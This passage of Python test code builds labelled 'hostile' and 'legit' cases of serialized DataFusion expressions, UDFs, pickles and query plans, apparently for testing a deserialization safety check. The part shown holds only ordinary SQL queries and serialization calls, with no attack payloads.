        ("distinct-on", "SELECT DISTINCT ON (b) h(a) FROM t"),
        ("values-filter", "SELECT * FROM (VALUES (1), (2)) v(x) WHERE h(x) > 0"),
        ("scalar-subquery", "SELECT (SELECT max(h(a)) FROM t) AS m"),
    ):  # fmt: skip
        add(f"{name}@logical", r, "logical", plan_of(query, physical=False), f"datafusion plan of: {query}")
        add(f"{name}@physical", r, "physical", plan_of(query, physical=True), f"datafusion plan of: {query}")
    add(
        "copy-to-parquet@b64-logical",
        r,
        "text-b64",
        as_text("b64", plan_of(copy_pq, physical=False)),
        "base64 of the COPY TO logical plan",
        kind="b64:logical",
    )
    return out


def _legit() -> list[Case]:
    u = user
    out: list[Case] = []

    def add(name: str, carrier: str, build: Callable[[Path], bytes], note: str = "", receiver: str = "",
            kind: str = "") -> None:  # fmt: skip
        out.append(Case(name, "legit", carrier, build, False, note, kind or KINDS[carrier], receiver))

    scalar_jobs = (
        "intenum", "plain_enum_and_flag", "namedtuple_capture", "typed_namedtuple", "map_default",
        "itemgetter_capture", "codecs_decode", "http_status", "decimal_context", "zoneinfo_capture",
        "random_capture", "ipv4_network", "array_capture", "pure_path", "dataclass_capture", "frozen_dataclass",
        "typing_constructs", "decorated", "callable_instance", "class_with_descriptors", "closure_dict",
        "closure_set_frozenset", "closure_bytes", "re_pattern", "uuid_capture", "fraction_capture",
        "datetime_timezone", "pyarrow_objects", "partial_capture", "collections_capture", "logger_capture",
        "json_and_math", "nested_closure", "namespace_complex_slice_range", "string_template",
        "module_function_reference", "class_hooks_capture",
    )  # fmt: skip
    for job in scalar_jobs:
        add(
            f"{job}@udf-scalar",
            "udf-scalar",
            lambda _c, job=job: getattr(u(), job)().to_bytes(),
            f"user_jobs.{job}() to_bytes",
        )
    for job in ("intenum", "decimal_context", "closure_dict", "typing_constructs"):
        add(
            f"{job}@pickle",
            "pickle",
            lambda _c, job=job: pickle.dumps(getattr(u(), job)()),
            "pickle.dumps(expr)",
        )
    add("codecs_decode@pickle-protocol2", "pickle", lambda _c: pickle.dumps(u().codecs_decode(), protocol=2))
    add(
        "http_status@b64-pickle",
        "text-b64",
        as_text("b64", lambda _c: pickle.dumps(u().http_status())),
        kind="b64:pickle",
    )
    add(
        "re_pattern@hex-expr",
        "text-hex",
        as_text("hex", lambda _c: u().re_pattern().to_bytes()),
        kind="hex:expr",
    )
    add("running_sum@udf-aggregate", "udf-aggregate", lambda _c: u().base_aggregate().to_bytes())
    add("collect_list_state@udf-aggregate", "udf-aggregate", lambda _c: u().udaf_list_state().to_bytes())
    add("running_sum@pickle", "pickle", lambda _c: pickle.dumps(u().base_aggregate()))
    add("ones@udf-window", "udf-window", lambda _c: u().base_window().to_bytes())
    add("lag2_factory@udf-window", "udf-window", lambda _c: u().udwf_factory().to_bytes())
    add("nested_udf@expr", "expr", lambda _c: real("nested"))
    add(
        "chn_scalar@chn",
        "chn",
        lambda _c: real("chn"),
        "DFPYCHN envelope around the inline frame",
        f"codec:{CODEC_ID}",
    )

    def plain_exprs(_c: Path, protocol: int | None = None) -> bytes:
        from datafusion import col, lit
        from datafusion import functions as f

        exprs = [(col("a") + lit(1)).alias("x"), f.sum(col("a")), f.row_number(partition_by=[col("s")]),
                 f.case(col("a")).when(lit(1), lit("one")).otherwise(lit("many"))]  # fmt: skip
        if protocol is None:
            return exprs[0].to_bytes()
        return pickle.dumps(exprs, protocol=protocol)

    add("no_udf@expr", "expr", plain_exprs)
    for protocol in (0, 2, 4, 5):
        add(f"no_udf_list_p{protocol}@pickle", "pickle", functools.partial(plain_exprs, protocol=protocol))

    queries = {
        "scalar": "SELECT double_it(a) AS d, scale3(b) AS e FROM t WHERE a > 1",
        "aggregate": "SELECT s, running_sum(a) AS r FROM t GROUP BY s",
        "window": "SELECT ones(a) OVER (ORDER BY a) AS o FROM t",
        "union": "SELECT double_it(a) AS x FROM t UNION ALL SELECT scale3(b) AS x FROM t",
        "no_udf": "SELECT a + 1 AS x, s FROM t WHERE b > 2 ORDER BY x LIMIT 5",
    }
    for key, query in queries.items():
        add(
            f"sql_{key}@logical",
            "logical",
            lambda _c, q=query: _ctx().sql(q).logical_plan().to_bytes(),
            query,
        )
        add(
            f"sql_{key}@physical",
            "physical",
            lambda _c, q=query: _ctx().sql(q).execution_plan().to_bytes(),
            query,
        )
    add(
        "sql_scalar@b64-physical",
        "text-b64",
        as_text("b64", lambda _c: _ctx().sql(queries["scalar"]).execution_plan().to_bytes()),
        kind="b64:physical",
    )
    return out


@functools.cache
def cases() -> tuple[Case, ...]:
    all_cases = (*_hostile(), *_legit())
    names = [c.name for c in all_cases]
    assert len(names) == len(set(names)), "duplicate case names"
    return all_cases


def hostile() -> list[Case]:
    return [c for c in cases() if c.hostile]


def legit() -> list[Case]:
    return [c for c in cases() if not c.hostile]
